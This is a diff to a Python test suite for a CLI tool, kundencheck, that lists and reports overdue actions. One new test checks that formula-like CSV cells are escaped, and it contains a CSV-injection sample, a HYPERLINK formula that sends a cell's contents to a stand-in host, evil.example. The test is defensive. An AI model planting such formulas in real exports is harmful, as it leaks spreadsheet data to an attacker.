@@ -16,7 +16,7 @@ import icalendar
 from click.testing import CliRunner
 
 from kundencheck.cli import main
-from kundencheck.core.answers import Action, ActionReview, Answer
+from kundencheck.core.answers import Action, ActionReview
 from kundencheck.core.history import thread_id
 from kundencheck.store.git_store import GitStore
 from tests.history_builder import ANA, CET, JONAS, base_answers, commit_run
@@ -30,7 +30,7 @@ def invoke(repo: Path, *args: str):
 
 def raw(repo: Path, *args: str) -> bytes:
     """The command's standard output as bytes, from the console script itself."""
-    result = subprocess.run([sys.executable, "-m", "kundencheck", "-C", str(repo), *args], capture_output=True,
+    result = subprocess.run([sys.executable, "-m", "kundencheck", "-C", str(repo), *args], capture_output=True, check=False,
                             timeout=120)
     assert result.returncode == 0, result.stderr.decode()
     return result.stdout
@@ -99,6 +99,16 @@ def test_csv_is_rfc_4180_utf8_with_english_headers(history_repo):
         "Book a review", "Ana", "2026-03-20", "true", "21")
     assert (book["raised_by"], book["reviews"], book["last_review"]) == ("Ana Schäfer", "1", "open")
     assert rows[2]["overdue"] == "false"
+
+
+def test_csv_cells_a_spreadsheet_would_run_get_an_apostrophe(history_repo):
+    repo = history_repo["path"]
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
+    _commit_more(repo, history_repo["checklist"], [("expectations-match", Action(formula, "+Ana", dt.date(2026, 5, 1)))],
+                 when=dt.datetime(2026, 4, 1, 9, 0, tzinfo=CET), sprint="2026-W14")
+    rows = list(csv.DictReader(io.StringIO(raw(repo, "actions", "--format", "csv", *TODAY).decode("utf-8"), newline="")))
+    row = next(r for r in rows if r["item"] == "expectations-match")
+    assert (row["what"], row["owner"]) == ("'" + formula, "'+Ana")
 
 
 def _commit_more(repo: Path, checklist, actions: list[tuple[str, Action]], *, reviews=(), who=JONAS,
@@ -195,7 +205,7 @@ def test_status_check_and_reports_list_a_handful_per_phase(history_repo):
     known = ids(history_repo)
     status = invoke(repo, "status", *TODAY).output
     assert "Actions of build: 11 open, ⚠ 10 overdue" in status
-    listed = re.findall(r"^  [⚠ ] ([a-z2-9]{6}) ", status, flags=re.M)
+    listed = re.findall(r"^  [⚠ ] ([a-z2-9]{6}) ", status, flags=re.MULTILINE)
     assert len(listed) == 5 and listed[0] == known["book"]
     assert "  and 6 more: kundencheck actions --phase build" in status
     # Its check findings, in check's words, list the same few overdue actions.
@@ -217,6 +227,11 @@ def test_status_check_and_reports_list_a_handful_per_phase(history_repo):
     assert "::notice title=kundencheck::overdue action: and 5 more: kundencheck actions --phase build" in github
     # The reports: five open threads listed per phase and the rest counted; JSON lists them all.
     markdown = invoke(repo, "report", "--sprint", "2026-W14", *TODAY).output
+    # The headline counts them all, and lists the same five with how many more.
+    assert "  - ✘ overdue action (10), since 2026-03-21\n" in markdown
+    found = markdown.split("### What the check found")[1].split("Legend:")[0]
+    assert found.count("✘ overdue action (overdue\\_action): build/") == 5
+    assert "- … overdue action: and 5 more: kundencheck actions --phase build" in found
     open_part = markdown.split("### Open")[1].split("###")[0]
     assert open_part.count("\n- `") == 5 and "- and 6 more: kundencheck actions --phase build" in open_part
     html = invoke(repo, "report", "--sprint", "2026-W14", "--format", "html", *TODAY).output
